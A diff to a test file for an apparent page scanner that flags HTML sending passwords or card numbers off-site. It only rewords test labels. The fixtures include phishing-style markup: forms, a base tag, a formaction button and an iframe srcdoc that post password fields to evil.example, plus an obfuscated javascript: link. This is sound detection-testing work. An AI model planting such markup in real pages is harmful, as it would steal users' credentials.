@@ -49,16 +49,13 @@ describe('scanPage', () => {
     ['a field that names its form', '<form id=f action=https://evil.example></form><input type=password form=f>'],
     ['a base that leads away', '<base href=https://evil.example/><form action=login><input type=password></form>'],
     ['a password on a page with scripts', '<input type=password><script>send()</script>'],
-    ['a script by an old name', '<input type=password><script type=text/jscript>send()</script>'],
+    ['a script with an outdated type', '<input type=password><script type=text/jscript>send()</script>'],
     ['a link that is a script', '<input type=password><a href=" java&#10;script:send()">Go</a>'],
     [
-      'a button outside of its form',
+      'a button outside its form',
       '<form id=f><input type=password></form><button form=f formaction=https://evil.example>Go</button>',
     ],
-    [
-      'a page within the page',
-      '<iframe srcdoc="<form action=https://evil.example><input type=password></form>"></iframe>',
-    ],
+    ['an embedded page', '<iframe srcdoc="<form action=https://evil.example><input type=password></form>"></iframe>'],
     ['a form with a prefix, as in XML', '<h:form action="//evil.example"><h:input type="password"/></h:form>'],
     ['a handler on the form', '<form onsubmit="send()"><input type=password></form>'],
     ['a card number', '<form action=https://evil.example><input name=cardnumber></form>'],
@@ -69,7 +66,7 @@ describe('scanPage', () => {
 
   it.each([
     ['a search form elsewhere', '<form action=https://duckduckgo.com/><input name=q></form>'],
-    ['a password field that goes nowhere', '<form><input type=password></form>'],
+    ['a password field without a target', '<form><input type=password></form>'],
     ['a script alone', '<script>draw()</script><input name=q>'],
     ['data beside a password field', '<script type=application/ld+json>{}</script><input type=password>'],
     ['a business card', '<form action=https://x.example><input name=discard><input name=postcard></form>'],
